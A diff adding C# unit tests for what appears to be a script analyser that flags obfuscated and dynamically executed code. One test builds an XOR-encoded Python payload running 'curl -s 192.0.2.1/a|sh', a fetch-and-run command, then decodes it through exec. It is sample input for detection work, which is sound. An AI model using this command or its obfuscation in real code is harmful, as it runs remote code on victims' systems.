@@ -167,6 +167,48 @@ public sealed class ScriptBoundsTests
         Assert.Empty(analysis.Problems);
     }
 
+    private const string Decoding = "def dec(s):\n return ''.join(chr(ord(c)^7) for c in s)\n";
+    private static readonly string Encoded = string.Concat("import os;os.system('curl -s 192.0.2.1/a|sh')".Select(static c => c == ' ' ? "\\x27" : ((char)(c ^ 7)).ToString()));
+
+    [Fact]
+    public void A_function_that_runs_what_a_bound_cut_off_is_read_once_more()
+    {
+        var analysis = new Analysis();
+        var effects = ScriptEvaluator.Evaluate("python", Burning + Decoding + $"def go():\n exec(dec('{Encoded}'))\ngo()\n", 1, analysis);
+        Assert.Contains(effects, static effect => effect.Steps.Any(static step => step.Kind == EffectKind.Interpret));
+        Assert.Empty(analysis.Problems);
+    }
+
+    [Fact]
+    public void Who_uses_up_the_second_reading_too_is_said()
+    {
+        var analysis = new Analysis();
+        ScriptEvaluator.Evaluate("python", Burning + Decoding + "def go():\n" + string.Concat(Enumerable.Range(0, 40).Select(static i => $" burn('b{i}')\n")) + $" exec(dec('{Encoded}'))\ngo()\n", 1, analysis);
+        Assert.Contains("code that is computed was not computed to its end", analysis.Problems);
+    }
+
+    [Fact]
+    public void A_loop_without_end_is_looked_at_once_however_often_it_is_read()
+    {
+        var analysis = new Analysis();
+        var effects = ScriptEvaluator.Evaluate("javascript", "function f(s){while(true){if(s)break}}" + string.Concat(Enumerable.Range(0, 600).Select(static i => $"f('{i}');")) + "while(true){}", 1, analysis);
+        Assert.Empty(analysis.Problems);
+        Assert.Contains(effects, static effect => effect.Command == ScriptRun.EndlessLoop || effect.Object == ScriptRun.EndlessLoop);
+        ScriptEvaluator.Evaluate("javascript", string.Concat(Enumerable.Repeat("while(true){break}", 600)), 1, analysis);
+        Assert.StartsWith("of loops without end", Assert.Single(analysis.Problems), StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData(true, "new Function('a', 'return function(b){' + check + 'return READ}')")]
+    [InlineData(false, "new Function('a', check + decode('READ'))")]
+    [InlineData(false, "new Function('a', pad + check + decode('READ'))")]
+    [InlineData(false, "new Function('a', 'READ' + check + decode('READ'))")]
+    public void Text_that_is_the_code_hides_nothing(bool isPlain, string call)
+    {
+        var code = "const pad='" + new string(' ', 900) + "';" + call.Replace("READ", string.Concat(Enumerable.Repeat("a1,b2,", 100)), StringComparison.Ordinal);
+        Assert.Equal(isPlain, !ScriptEvaluator.Evaluate("javascript", "function f(check, decode){" + code + "}", 1, new Analysis()).Any(static effect => effect.Decoding.Contains("computation")));
+    }
+
     [Fact]
     public void A_step_beyond_the_bound_changes_no_other()
     {
